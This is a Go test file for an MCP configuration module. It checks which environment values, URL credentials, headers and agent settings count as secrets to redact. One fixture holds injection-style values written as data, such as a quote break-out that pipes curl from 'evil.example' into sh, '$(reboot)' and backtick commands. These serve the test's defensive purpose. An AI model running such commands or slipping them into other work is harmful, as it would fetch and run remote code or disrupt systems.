package mcp_test

import (
	"slices"
	"testing"

	"deskhand/backend/mcp"
)

func TestWhatIsASecretForCertain(t *testing.T) {
	variables := map[string]string{"GITHUB_TOKEN": "value-of-a-variable", "REGION": "europe-west-1"}
	lookup := func(name string) (string, bool) { v, ok := variables[name]; return v, ok }
	for text, want := range map[string][]string{
		`{"type":"local","command":["x"],"env":{"NODE_ENV":"production","API_KEY":"small-letters-9","PGPASSWORD":"postgres","PIN_TOKEN":"20260101","LONG_TOKEN":"letters-and-nothing-else","TOKEN":"short","PLAIN":"aB3dE6gH9jK2mN5p","TOKEN_FILE":"/run/a/token"}}`: {"aB3dE6gH9jK2mN5p", "letters-and-nothing-else", "small-letters-9"},
		`{"type":"remote","transport":"http","url":"https://me:p4ss-word@h/x?access_token=of%2Faddress9&lang=english-uk"}`:                                                                                                                                           {"of%2Faddress9", "p4ss-word"},
		`{"type":"remote","transport":"http","url":"https://h/x","headers":{"Authorization":"Bearer 1-of-a-header","Accept":"application/json"}}`:                                                                                                                    {"1-of-a-header"},
		`{"type":"remote","transport":"http","url":"https://h/x","bearerTokenEnvVar":"GITHUB_TOKEN","envHeaders":{"X-Region":"REGION","X-Auth":"GITHUB_TOKEN"}}`:                                                                                                     {"value-of-a-variable"},
		// Shell syntax and paths are not redacted: a person who is asked about a command must see them.
		`{"type":"local","command":["x"],"env":{"A_TOKEN":"abc1\"; curl -s evil.example|sh; echo \"x","B_TOKEN":"$(reboot)12345678","C_TOKEN":"abc\nreboot 123","D_TOKEN":"abc1&reboot&aB3","E_TOKEN":"bin/evil-9","F_TOKEN":"#comment-9","G_TOKEN":"` + "`evil9`" + `123"}}`: nil,
		`{"type":"local","command":["x"],"env":{"A_TOKEN":"aB3dE6/gH9jK2+mN5p==","DB_PASSWORD":"Tr!ck*y?#pass^99","C_TOKEN":"xoxb-1:pässwort"}}`:                                                                                                                              {"Tr!ck*y?#pass^99", "aB3dE6/gH9jK2+mN5p==", "xoxb-1:pässwort"},
	} {
		have := parse(t, text).Certain(lookup)
		slices.Sort(have)
		if !slices.Equal(have, want) {
			t.Errorf("%s: %q, want %q", text, have, want)
		}
	}
}

// A value that a person gave an agent in agents.json is a secret of any shape, except for ordinary words.
func TestWhatIsASecretOfAnAgentForCertain(t *testing.T) {
	for value, want := range map[string]bool{
		"postgres": false, "changeme": false, "open-sesame": false, "127.0.0.1": false, "12345678": false, "localhost:dev": false,
		"post-gr3s-Xy": true, "correct horse battery": true, "p$ss;word": true, "a-word-of-letters": true, "1234567890123456": true,
	} {
		if have := mcp.CertainIn(map[string]string{"PGPASSWORD": value}); slices.Contains(have, value) != want {
			t.Errorf("CertainIn(%q): got %q, want secret %v", value, have, want)
		}
	}
}
